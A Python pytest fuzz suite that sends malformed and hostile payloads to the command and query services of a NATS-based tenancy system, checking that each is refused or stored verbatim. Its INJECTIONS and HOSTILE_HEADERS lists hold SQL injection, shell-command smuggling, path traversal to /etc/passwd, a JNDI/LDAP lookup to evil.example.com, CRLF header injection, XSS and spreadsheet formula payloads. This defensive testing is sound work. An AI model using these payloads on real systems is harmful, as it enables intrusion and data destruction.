"""Malformed and hostile payloads on every command subject and every query subject, through a
real nats-server to the command and query services (in this process, so that its memory is
theirs): random bytes, invalid UTF-8, 10 000 levels of nesting, strings past and just under the
64 KiB limit, wrong types, unknown fields, NaN and Infinity, huge integers, hostile headers
(Tenantry-Timeout of queries included), and
injection-looking strings (SQL, shell, path traversal, CRLF, NUL, …) in every string field.

Whatever is sent: no answer is `internal`; what its model refuses is a `validation_error` and
writes nothing (the store's position does not move); what its model accepts is stored verbatim
(and harmless: no shell ran, the tables are intact, the views keep up); the services stay up;
the process's resident memory grows by less than MEMORY_BOUND.

The hand-written list runs on SQLite and on PostgreSQL (whose text can't hold NUL and whose
date arithmetic has edges); the random payloads (hypothesis) on SQLite."""

from __future__ import annotations

import asyncio
import contextlib
import ctypes
import gc
import json
import os
import resource
import sys
import threading
import uuid
from collections.abc import Callable, Coroutine, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, TypeVar

import nats
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from nats.aio.client import Client
from pydantic import BaseModel, ValidationError

from domain.commands import COMMANDS
from domain.service import TenancyService
from projections.queries import QUERIES
from projections.store import ViewStore
from tenantry.server.command_endpoint import CommandEndpoint
from tenantry.server.nats_server import NatsServer
from tenantry.server.query_endpoint import serve_views
from tenantry.server.store import event_store_env, postgres_env
from tenantry.server.wakeups import wake_on_save
from tenantry.server.wire import MAX_BODY_BYTES
from tenantry.settings import Settings
from tests.unit.test_trailing_whitespace import TRAILING, _changed, _slots

T = TypeVar("T")
# Resident memory the process may gain over a test: a leak of the bodies (up to 64 KiB each,
# thousands of them) would be hundreds of MiB.
MEMORY_BOUND = 64 * 1024 * 1024
ADMIN = "user:ana@example.com"
FLOOD = 400
NO_REQUEST = "00000000-0000-4000-8000-000000000000"
# Answers a valid command may get from the domain; never `internal`, never `validation_error`.
DOMAIN_REFUSALS = {"not_found", "already_exists", "conflict", "precondition_failed", "forbidden"}

# A valid body for every command and query, on the world `_world` makes; the fuzz starts from
# these. Changes that would succeed aim at things that don't exist, or are no-ops.
COMMAND_BODIES: dict[str, dict[str, Any]] = {
    "create_environment": {"name": "fuzz-env", "color": "#aabbcc"},
    "update_environment": {"name": "dev", "optimize_for": "cost"},
    "delete_environment": {"name": "no-such-env"},
    "register_cluster": {
        "name": "fuzz-cluster",
        "region": "eu-west-1",
        "provider": "generic",
        "environments": ["dev"],
        "labels": {"team": "fuzz"},
    },
    "add_cluster_environment": {"cluster": "prod-eu", "environment": "dev"},
    "remove_cluster_environment": {"cluster": "prod-eu", "environment": "staging"},
    "deregister_cluster": {"cluster": "no-such-cluster"},
    "create_workspace": {
        "cluster": "prod-eu",
        "name": "fuzz-ws",
        "environment": "dev",
        "labels": {"a": "b"},
        "annotations": {"example.com/note": "n"},
        "ml_repo_access": [{"repo": "fraud-models", "role": "viewer"}],
    },
    "set_workspace_environment": {"workspace": "prod-eu:fraud", "environment": "dev"},
    "update_workspace": {"workspace": "prod-eu:fraud", "annotations": {"example.com/n": "x"}},
    "delete_workspace": {"workspace": "prod-eu:no-such", "force": False},
    "register_application": {"workspace": "prod-eu:fraud", "name": "fuzz-app"},
    "remove_application": {"workspace": "prod-eu:fraud", "name": "no-such-app"},
    "register_storage_integration": {
        "name": "fuzz-si",
        "provider": "local",
        "storage_root": "file:///srv/fuzz",
        "region": "eu-west-1",
    },
    "remove_storage_integration": {"name": "no-such-si"},
    "create_ml_repo": {
        "name": "fuzz-repo",
        "storage_integration": "local",
        "description": "d",
        "adopt_storage": False,
    },
    "update_ml_repo": {"name": "fraud-models", "description": "fraud models"},
    "grant_repo_access": {
        "repo": "fraud-models",
        "subject": "user:bob@example.com",
        "role": "viewer",
        "reason": "r",
        "managed_by": "apply",
        "duration": "12h",
    },
    "set_repo_access_policy": {"repo": "no-such-repo", "approvals": 1, "max_duration": "30d"},
    "revoke_repo_access": {"repo": "fraud-models", "subject": "user:nobody@example.com"},
    "delete_ml_repo": {"name": "no-such-repo", "delete_storage": False},
    "create_team": {"name": "fuzz-team", "members": ["bob@example.com"]},
    "add_team_member": {"team": "risk", "user": "bob@example.com"},
    "remove_team_member": {"team": "risk", "user": "nobody@example.com"},
    **{
        f"record_namespace_{outcome}": {
            "workspace": "prod-eu:no-such",
            "namespace": "no-such",
            "detail": "d",
        }
        for outcome in ("provisioned", "failed", "deleted")
    },
    **{
        f"record_storage_{outcome}": {
            "repo": "no-such-repo",
            "location": "file:///srv/x/no-such-repo/",
            "detail": "d",
            **({"removal": False} if outcome == "failed" else {}),
        }
        for outcome in ("provisioned", "failed", "deleted")
    },
    # Access requests (issue 15): decisions aim at a request that does not exist.
    "request_repo_access": {
        "repo": "fraud-models",
        "subject": "user:bob@example.com",
        "role": "viewer",
        "reason": "r",
        "duration": "12h",
    },
    "approve_access_request": {"request": NO_REQUEST, "comment": "c"},
    "deny_access_request": {"request": NO_REQUEST, "reason": "r"},
    "cancel_access_request": {"request": NO_REQUEST, "reason": "r"},
    "break_glass_repo_access": {
        "repo": "fraud-models",
        "subject": "user:bob@example.com",
        "role": "viewer",
        "reason": "r",
        "duration": "1h",
    },
}
QUERY_BODIES: dict[str, dict[str, Any]] = {
    "list_environments": {},
    "list_clusters": {"environment": "dev"},
    "get_workspace": {"fqn": "prod-eu:fraud"},
    "list_workspaces": {"cluster": "prod-eu", "environment": "dev", "production": False},
    "get_ml_repo": {"name": "fraud-models"},
    "list_ml_repos": {"subject": ADMIN},
    "repo_access": {"repo": "fraud-models"},
    "subject_access": {"subject": "team:risk"},
    "check_access": {"subject": ADMIN, "repo": "fraud-models", "action": "read"},
    "environment_tags": {"environment": "dev"},
    "audit_log": {"actor": ADMIN, "fqn": "fraud-models", "type": "ml_repo.created", "limit": 5},
    "access_report": {"as_of": "2026-01-01T00:00:00Z", "repo": "fraud-models"},
    "access_changes": {"from": "2026-01-01T00:00:00Z", "to": "2027-01-01T00:00:00+02:00"},
    "get_team": {"name": "risk"},
    "get_storage_integration": {"name": "local"},
    "list_access_requests": {
        "status": "pending",
        "repo": "fraud-models",
        "requester": ADMIN,
        "approver": ADMIN,
    },
    "get_access_request": {"request": NO_REQUEST},
}

# --- access reviews (issue 15): a review `fuzz-review` of fraud-models is open in `_world`;
# decisions and closes name one that does not exist.
COMMAND_BODIES.update(
    {
        "open_access_review": {
            "name": "fuzz-new-review",
            "scope": {"repos": ["fraud-models"]},
            "due": "2099-01-01T00:00:00Z",
            "on_undecided": "keep",
        },
        "decide_access_review_item": {
            "review": "no-such-review",
            "item": "i1",
            "decision": "keep",
            "reason": "r",
        },
        "close_access_review": {"review": "no-such-review"},
    }
)
QUERY_BODIES.update(
    {
        "list_access_reviews": {"status": "open"},
        "get_access_review": {"name": "fuzz-review"},
        "list_access_review_items": {
            "review": "fuzz-review",
            "status": "undecided",
            "reviewer": ADMIN,
        },
    }
)

MARKER = Path(f"/tmp/tenantry-fuzz-{os.getpid()}-pwned")
INJECTIONS = [
    "'; DROP TABLE tenantry_events; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; DELETE FROM view_tracking",
    "' UNION SELECT notification_id, state FROM tenantry_events --",
    f"$(touch {MARKER})",
    f"`touch {MARKER}`",
    f"; touch {MARKER}",
    f"| touch {MARKER} &",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "file:///../../../etc/passwd",
    "a\r\nTenantry-Actor: user:evil@example.com\r\n",
    "\r\n\r\nPUB tenantry.evt.x 1\r\nx\r\n",
    "a\x00b",
    "\x00",
    "\u202e\u0000\ufeff",
    "tenantry.cmd.>",
    "{{7*7}}${jndi:ldap://evil.example.com/x}",
    "<script>alert(1)</script>",
    "🔥" * 50,
    "x" * 4000,
    # What reaches people and other tools (issue 12): a look-alike with a trailing newline,
    # YAML 1.2 numbers, rich markup, terminal escapes (C0 and C1), spreadsheet formulas.
    "user:eve@example.com\n",
    "risk\n",
    "1e3",
    "0o755",
    "[/]",
    "[bold]x[/bold]",
    "\x1b[2J\x1b]0;title\x07",
    "\x9b31m",
    '=HYPERLINK("http://evil.example.com","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]
# Every string field of the valid bodies is set to each of these: a different subject each time
# so that a grant is never a no-op (whose reason would not be stored).
WRONG_TYPES: list[Any] = [None, True, 0, -1, 2**64, 1.5, "", [], {}, [[[]]], {"$gt": ""}]
GENERIC_BODIES: list[bytes] = [
    b"",
    b" ",
    b"{",
    b"}",
    b"null",
    b"true",
    b"0",
    b"-1",
    b"1e999",
    b'"x"',
    b"[]",
    b"[{}]",
    b"\xff\xfe\xfd",
    b"\xc0\xaf",
    b'{"name": "\xff\xfe"}',
    b'{"\xff": 1}',
    b"\x00",
    b'{"name": "a"}\x00',
    b'{"name": "\\ud800"}',
    b'{"name": "\\udfff\\ud800"}',
    b"\xef\xbb\xbf{}",
    b"\xff\xfe{\x00}\x00",
    b"[" * 10_000 + b"]" * 10_000,
    b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    b'{"name":' + b"[" * 10_000 + b"]" * 10_000 + b"}",
    b"x" * (MAX_BODY_BYTES + 1),
    b'{"name":"' + b"a" * (MAX_BODY_BYTES - 12) + b'"}',  # exactly at the limit
    b'{"name":"' + b"a" * (MAX_BODY_BYTES - 11) + b'"}',  # one byte over
    b'{"name": NaN}',
    b'{"name": Infinity, "expected_version": -Infinity}',
    b'{"expected_version": NaN, "min_position": NaN}',
    b'{"min_position": Infinity}',
    b'{"min_position": ' + b"9" * 4_400 + b"}",
    b'{"expected_version": 1' + b"0" * 30 + b"}",
    b'{"limit": 1e400, "min_position": -1}',
    b'{"min_position_timeout": 1e-320}',
    b'{"__proto__": {"admin": true}, "constructor": {}}',
    b'{"name": "a", "name": "b", "name": 3}',
]
HOSTILE_HEADERS: list[dict[str, str]] = [
    {"Tenantry-Command-Id": "x" * 129},
    {"Tenantry-Command-Id": "../../etc/passwd;rm -rf /"},
    {"Tenantry-Command-Id": "ü"},
    {"Tenantry-Correlation-Id": "a b"},
    {"Tenantry-Actor": "admin"},
    {"Tenantry-Actor": "service:../x"},
    {"Tenantry-Actor": "user:" + "a" * 400 + "@example.com"},
    {"Tenantry-Actor": "user:evil@example.com\x00"},
]

# How long a query's sender waits (seconds): nonsense is taken as no header at all.
HOSTILE_TIMEOUTS: list[dict[str, str]] = [
    {"Tenantry-Timeout": value}
    for value in ("nan", "inf", "-inf", "-1", "0", "1e400", "abc", "", "9" * 400, "1\x00")
]


class Running:
    """The command and query services on a real nats-server, in a loop of their own thread
    (hypothesis drives tests synchronously)."""

    def __init__(self, server: NatsServer, service: TenancyService, views: ViewStore) -> None:
        self.server = server
        self.service = service
        self.views = views
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self.stop = asyncio.Event()
        self.tried = 0

    def run(self, coro: Coroutine[Any, Any, T], timeout: float = 60) -> T:
        return asyncio.run_coroutine_threadsafe(coro, self.loop).result(timeout)

    def start(self) -> Running:
        self.thread.start()
        self.run(self._start())
        return self

    async def _start(self) -> None:
        self.service_nc = await nats.connect(self.server.url)
        self.endpoint = CommandEndpoint(self.service_nc, self.service)
        await self.endpoint.start()
        wakeup = asyncio.Event()
        self.service.listeners.append(wake_on_save(asyncio.get_running_loop(), wakeup))
        self.views_task = asyncio.create_task(
            serve_views(
                self.service.recorder,
                self.views,
                self.service_nc,
                self.stop,
                wakeup,
                poll_interval=0.05,
            )
        )
        await self.service_nc.flush()
        self.client: Client = await nats.connect(self.server.url)
        async with asyncio.timeout(30):  # until the query service has subscribed too
            while True:
                try:
                    await self.client.request("tenantry.query.list_environments", b"{}", timeout=1)
                    break
                except nats.errors.NoRespondersError:
                    await asyncio.sleep(0.02)

    def close(self) -> None:
        async def _close() -> None:
            await self.client.close()
            self.stop.set()
            await self.views_task
            await self.endpoint.stop()
            await self.service_nc.drain()

        self.run(_close())
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(10)

    def ask(
        self, subject: str, data: bytes, headers: dict[str, str] | None = None
    ) -> dict[str, Any]:
        """The JSON answer (checked to be one, with the micro-service headers on errors)."""

        async def _ask() -> dict[str, Any]:
            reply = await self.client.request(subject, data, timeout=15, headers=headers)
            answer: dict[str, Any] = json.loads(reply.data)
            if not answer["ok"]:
                assert reply.headers is not None
                assert reply.headers["Nats-Service-Error-Code"].isdigit()
                assert "\r" not in reply.headers["Nats-Service-Error"]
                assert "\n" not in reply.headers["Nats-Service-Error"]
            return answer

        self.tried += 1
        return self.run(_ask())

    def position(self) -> int:
        return self.service.recorder.max_notification_id() or 0

    def ok(self, name: str, body: dict[str, Any]) -> dict[str, Any]:
        answer = self.ask(
            f"tenantry.cmd.{name}", json.dumps(body).encode(), {"Tenantry-Actor": ADMIN}
        )
        assert answer["ok"], answer
        return answer


def _world(target: Running) -> None:
    target.ok(
        "register_cluster",
        {"name": "prod-eu", "region": "eu-west-1", "provider": "generic", "environments": ["dev"]},
    )
    target.ok(
        "register_storage_integration",
        {"name": "local", "provider": "local", "storage_root": "file:///srv/tenantry"},
    )
    target.ok("create_ml_repo", {"name": "fraud-models", "storage_integration": "local"})
    target.ok("create_workspace", {"cluster": "prod-eu", "name": "fraud", "environment": "dev"})
    target.ok("create_team", {"name": "risk", "members": [ADMIN.removeprefix("user:")]})
    target.ok(
        "open_access_review",
        {"name": "fuzz-review", "scope": {"all": True}, "due": "2099-01-01T00:00:00Z"},
    )


def _rss() -> int:
    """Resident memory now (Linux; memory freed but kept by malloc handed back first, so that
    this is what is in use), else the peak so far."""
    gc.collect()
    with contextlib.suppress(OSError, AttributeError):
        ctypes.CDLL("libc.so.6").malloc_trim(0)
    try:
        with open("/proc/self/statm") as statm:
            return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")
    except OSError:
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        return peak if sys.platform == "darwin" else peak * 1024


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
)
def target(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Running]:
    folder = tmp_path_factory.mktemp("fuzz")
    if request.param == "sqlite":
        env = event_store_env(Settings(state_dir=folder / "state"))
        views = ViewStore.from_url(f"sqlite:///{folder / 'views.sqlite'}")
        schema = None
    else:
        request.getfixturevalue("postgres_ready")
        from tests.conftest import POSTGRES_URL

        schema = f"t_{uuid.uuid4().hex[:12]}"
        url = f"{POSTGRES_URL}?schema={schema}"
        env, views = postgres_env(url), ViewStore.from_url(url)
    server = NatsServer(folder / "nats").start()
    service = TenancyService(env)
    service.seed_default_environments()
    running = Running(server, service, views).start()
    _world(running)
    yield running
    running.close()
    views.close()
    service.close()
    server.stop()
    if schema is not None:
        import psycopg
        from psycopg import sql

        with psycopg.connect(POSTGRES_URL, autocommit=True) as conn:
            conn.execute(sql.SQL("DROP SCHEMA {} CASCADE").format(sql.Identifier(schema)))


def _model(subject: str) -> type[BaseModel] | None:
    kind, _, name = subject.removeprefix("tenantry.").partition(".")
    if kind == "cmd":
        return COMMANDS.get(name)
    query = QUERIES.get(name)
    return query.params if query is not None else None


def _valid(subject: str, data: bytes) -> bool:
    """Whether the service must take `data` past validation: its own model says so."""
    model = _model(subject)
    if model is None or len(data) > MAX_BODY_BYTES:
        return False
    try:
        model.model_validate_json(data or b"{}")
    except ValidationError:
        return False
    return True


@dataclass
class Tally:
    refused: int = 0
    accepted: int = 0
    stored: list[str] = field(default_factory=list)  # hostile strings accepted and stored


def _check(
    target: Running,
    subject: str,
    data: bytes,
    tally: Tally,
    headers: dict[str, str] | None = None,
    injected: str | None = None,
) -> None:
    """Send once and check the answer against what the models say of the input."""
    command_id = f"fuzz-{uuid.uuid4().hex}"
    sent = {"Tenantry-Command-Id": command_id, "Tenantry-Actor": ADMIN, **(headers or {})}
    before = target.position()
    answer = target.ask(subject, data, sent)
    assert answer["ok"] or answer["error"]["code"] != "internal", (subject, data[:200], answer)
    if headers is not None or not _valid(subject, data):
        # Refused by the wire or the model: nothing written, nothing echoed back.
        assert not answer["ok"], (subject, data[:200], headers, answer)
        assert answer["error"]["code"] in ("validation_error", "forbidden"), answer
        assert target.position() == before, (subject, data[:200])
        if len(data) > 64:
            assert data[:64].decode(errors="replace") not in json.dumps(answer), answer
        tally.refused += 1
        return
    tally.accepted += 1
    if subject.startswith("tenantry.query."):
        assert answer["ok"] or answer["error"]["code"] in ("not_found", "timeout"), answer
        return
    assert answer["ok"] or answer["error"]["code"] in DOMAIN_REFUSALS, (subject, answer)
    if not answer["ok"]:
        assert target.position() == before, (subject, answer)
    elif injected is not None and answer["events"]:
        # Taken as given: stored verbatim, as data.
        states = [
            json.loads(n.state)
            for n in target.service.recorder.select_notifications(before, 100)
            if json.loads(n.state).get("command_id") == command_id
        ]
        assert states, answer
        assert injected in json.dumps(states, ensure_ascii=False) or _stored_in(injected, states)
        tally.stored.append(injected)


def _stored_in(text: str, value: Any) -> bool:
    if isinstance(value, str):
        return text in value
    if isinstance(value, dict):
        return any(_stored_in(text, k) or _stored_in(text, v) for k, v in value.items())
    if isinstance(value, list):
        return any(_stored_in(text, v) for v in value)
    return False


def _mutations(body: dict[str, Any], unique: Callable[[], str]) -> Iterator[tuple[bytes, str]]:
    """`body` with each field set to each wrong type and each injection (strings, list items,
    dict keys and values), plus an unknown field: (the body, the injected string or "")."""
    yield json.dumps({**body, "unknown_field": 1}).encode(), ""
    for key, value in body.items():
        for wrong in WRONG_TYPES:
            yield json.dumps({**body, key: wrong}).encode(), ""
        for text in INJECTIONS:
            if isinstance(value, str):
                changed: Any = text
            elif isinstance(value, list) and value and isinstance(value[0], str):
                changed = [text]
            elif isinstance(value, dict):
                changed = {"example.com/k": text} if key != "labels" else {text: "v"}
            else:
                continue
            mutated = {**body, key: changed}
            # Where the mutation could be taken, make it new (a name, a grantee) so that it is
            # stored rather than a no-op or already_exists.
            if "name" in mutated and key != "name" and isinstance(mutated["name"], str):
                mutated["name"] = unique()
            if mutated.get("subject") == "user:bob@example.com":
                mutated["subject"] = f"user:{unique()}@example.com"
            yield json.dumps(mutated, ensure_ascii=False).encode(), text


def test_hostile_payloads_on_every_subject_are_refused_or_stored_verbatim(
    target: Running,
) -> None:
    assert set(COMMAND_BODIES) == set(COMMANDS), "a body for every command"
    subjects = [f"tenantry.cmd.{name}" for name in COMMANDS] + [
        f"tenantry.query.{name}" for name in QUERIES
    ]
    for subject in subjects:  # the valid bodies are valid
        base = COMMAND_BODIES.get(subject.rpartition(".")[2]) or QUERY_BODIES.get(
            subject.rpartition(".")[2], {}
        )
        assert _valid(subject, json.dumps(base).encode()), subject
    counter = iter(range(1_000_000))

    def unique() -> str:
        return f"fz{next(counter)}"

    tally = Tally()
    memory_before = _rss()
    subjects += ["tenantry.cmd.no_such_command", "tenantry.query.no_such_query"]
    for subject in subjects:
        name = subject.rpartition(".")[2]
        base = COMMAND_BODIES.get(name) or QUERY_BODIES.get(name, {})
        for data in GENERIC_BODIES:
            _check(target, subject, data, tally)
        for data, injected in _mutations(base, unique):
            _check(target, subject, data, tally, injected=injected or None)
        if subject.startswith("tenantry.cmd."):
            for headers in HOSTILE_HEADERS:
                _check(target, subject, json.dumps(base).encode(), tally, headers=headers)
        else:
            for headers in HOSTILE_TIMEOUTS:
                # Not refused and not dropped: answered as if the header were absent.
                answer = target.ask(subject, json.dumps(base).encode(), headers)
                assert answer["ok"] or answer["error"]["code"] in (
                    "not_found",
                    "validation_error",
                ), (
                    subject,
                    headers,
                    answer,
                )
    memory_after = _rss()

    # Harmless: no shell ran, the stores and the views work and keep up.
    assert not MARKER.exists()
    answer = target.ok("create_team", {"name": f"after-{unique()}"})
    views = target.ask(
        "tenantry.query.audit_log",
        json.dumps({"type": "team.created", "min_position": answer["position"]}).encode(),
    )
    assert views["ok"], views
    repos = target.ask(
        "tenantry.query.list_ml_repos", json.dumps({"min_position": answer["position"]}).encode()
    )
    descriptions = {r["description"] for r in repos["data"]}
    assert {t for t in INJECTIONS if "\x00" not in t} & descriptions  # stored as they came
    assert memory_after - memory_before < MEMORY_BOUND, (memory_before, memory_after)
    print(
        f"\nfuzz (hand-written): {target.tried} requests on {len(subjects)} subjects: "
        f"{tally.refused} refused as invalid, {tally.accepted} valid ones answered "
        f"(none internal), {len(tally.stored)} hostile strings stored verbatim; "
        f"RSS {memory_before / 2**20:.0f} -> {memory_after / 2**20:.0f} MiB"
    )


_json = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(max_size=30),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4)
    ),
    max_leaves=20,
)
_SUBJECTS = [f"tenantry.cmd.{n}" for n in COMMANDS] + [f"tenantry.query.{n}" for n in QUERIES]


@st.composite
def _payloads(draw: st.DrawFn) -> tuple[str, bytes]:
    subject = draw(st.sampled_from(_SUBJECTS))
    name = subject.rpartition(".")[2]
    base = COMMAND_BODIES.get(name) or QUERY_BODIES.get(name, {})
    model = _model(subject)
    assert model is not None
    fields = [info.alias or key for key, info in model.model_fields.items()]
    kind = draw(st.integers(0, 3))
    if kind == 0:
        return subject, draw(st.binary(max_size=512))
    if kind == 1:
        return subject, json.dumps(draw(_json)).encode()
    if kind == 2:
        body = draw(st.dictionaries(st.sampled_from([*fields, "x"]), _json, max_size=6))
    else:  # the valid body with one field changed
        key = draw(st.sampled_from(fields))
        body = {**base, key: draw(_json)}
    if "min_position" in body and "min_position_timeout" not in body:
        body["min_position_timeout"] = 0.05  # a valid wait for a far position is not 5 s here
    return subject, json.dumps(body).encode()


@pytest.mark.parametrize("target", ["sqlite"], indirect=True)
@settings(
    max_examples=600,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(payload=_payloads())
def test_random_payloads_on_every_subject_never_fail_internally(
    target: Running, payload: tuple[str, bytes]
) -> None:
    subject, data = payload
    _check(target, subject, data, Tally())


def test_floods_of_near_limit_bodies_leave_memory_where_it_was(target: Running) -> None:
    """Hundreds of bodies just under 64 KiB at once, on both services: queued in the client,
    refused, forgotten. The first flood finds the process's buffers their size; a second one
    must not grow them further (memory is bounded, not proportional to what was sent)."""
    body = b'{"name":"' + b"a" * (MAX_BODY_BYTES - 12) + b'"}'

    async def flood() -> list[dict[str, Any]]:
        async def one(i: int) -> dict[str, Any]:
            subject = "tenantry.cmd.create_team" if i % 2 else "tenantry.query.get_team"
            reply = await target.client.request(subject, body, timeout=30)
            answer: dict[str, Any] = json.loads(reply.data)
            return answer

        return await asyncio.gather(*(one(i) for i in range(FLOOD)))

    position = target.position()
    sizes = [_rss()]
    for _ in range(3):
        answers = target.run(flood())
        assert {a["error"]["code"] for a in answers} == {"validation_error"}
        sizes.append(_rss())
    assert target.position() == position
    target.ok("create_team", {"name": f"after-flood-{uuid.uuid4().hex[:8]}"})
    assert sizes[-1] - sizes[1] < MEMORY_BOUND, sizes
    print(
        f"\nflood: 3 x {FLOOD} bodies of 64 KiB at once, RSS "
        + " -> ".join(f"{size / 2**20:.0f}" for size in sizes)
        + " MiB"
    )


def test_a_trailing_newline_in_any_shaped_string_is_refused_on_the_wire(target: Running) -> None:
    """Every name, reference, subject, e-mail, label, annotation key, root and region of every
    command, with whitespace after it: `validation_error`, nothing written (Python's `re.match`
    with `$` took `user:eve@example.com\\n` as a second subject)."""
    tried = 0
    for name, body in COMMAND_BODIES.items():
        for slot in _slots(body):
            for suffix in ("\n", TRAILING[tried % len(TRAILING)]):
                changed = _changed(body, slot, lambda s, suffix=suffix: s + suffix)
                before = target.position()
                answer = target.ask(
                    f"tenantry.cmd.{name}",
                    json.dumps(changed).encode(),
                    {"Tenantry-Actor": ADMIN, "Tenantry-Command-Id": f"nl-{uuid.uuid4().hex}"},
                )
                assert not answer["ok"], (name, slot, suffix, answer)
                assert answer["error"]["code"] == "validation_error", (name, slot, answer)
                assert target.position() == before
                tried += 1
    assert tried > 100
